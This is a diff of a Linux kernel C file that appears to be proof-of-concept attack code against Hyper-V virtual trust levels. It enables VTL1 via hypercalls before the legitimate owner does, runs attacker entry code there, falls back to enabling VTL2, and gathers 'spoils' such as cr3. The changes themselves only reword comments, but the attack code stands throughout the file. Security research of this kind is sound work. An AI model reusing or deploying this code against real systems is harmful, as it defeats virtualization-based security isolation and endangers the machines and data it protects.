@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * Code of the attacker in VTL1: enabled there with a context of its own, or started. VTL1 without an owner is
- * anybody's; whoever was there first keeps it.
+ * Attacker's code in VTL1: by HvCallEnableVpVtl or HvCallStartVirtualProcessor. Any kernel code may
+ * enable VTL1 while it is not enabled.
  */
 #include <linux/cpumask.h>
 #include <linux/mm.h>
@@ -13,17 +13,17 @@
 
 #define HVCALL_ENABLE_PARTITION_VTL 0x000d
 
-/* attack_entry.S: VTL1 begins there. It reads what is below, and fills in the spoils. */
+/* attack_entry.S: entry of VTL1. It reads the input below and fills in the result. */
 void attack_entry(void);
 extern u64 attack_entry_hypercall_msr, attack_entry_return;
 extern struct attack_spoils attack_entry_spoils;
 
 static u8 stack[1024] __aligned(16);
 
-/* How the tries ended: results of hypercalls. */
+/* Hypercall results of the tries. */
 static struct {
 	u64 partition, partition_vtl2, enable, start;
-	bool done, entered, other; /* another CPU was enabled, or started */
+	bool done, entered, other; /* another CPU was enabled or started */
 } tries;
 
 u64 attack_own_rsp(void)
@@ -31,7 +31,7 @@ u64 attack_own_rsp(void)
 	return (u64)stack + sizeof(stack) - 16;
 }
 
-/* All of VTL0's, but for where it begins and its stack. */
+/* VTL0's context, but for the entry and its stack. */
 static void own_context(struct hv_init_vp_context *context)
 {
 	const struct hv_x64_segment_register data = {
@@ -102,13 +102,13 @@ const struct attack_spoils *attack_take_over(void)
 	if (!tries.done) {
 		tries.done = true;
 		attack_entry_return = (u64)attack_vtl_return_stub();
-		local_irq_save(flags); /* on one CPU, and with its page tables */
+		local_irq_save(flags); /* stay on this CPU and its page tables */
 		tries.partition = enable_partition(1);
 		tries.enable = start(HVCALL_ENABLE_VP_VTL, HV_VP_INDEX_SELF);
 		if (hv_result_success(tries.enable))
 			enter(call_stub);
 		tries.entered = attack_entry_spoils.cr3;
-		/* Above the owner is where one would like to be, too. */
+		/* VTL2 would control VTL1. */
 		if (!tries.entered)
 			tries.partition_vtl2 = enable_partition(2);
 		for_each_online_cpu(cpu)
@@ -125,7 +125,7 @@ const struct attack_spoils *attack_take_over(void)
 	return tries.entered ? &attack_entry_spoils : NULL;
 }
 
-/* Without an owner: the attacker's own code has run in VTL1. */
+/* Without VTL1: the attacker's own code has run there. */
 bool attack_start(struct attack_story *story)
 {
 	const bool entered = attack_take_over(), several = num_online_cpus() > 1;
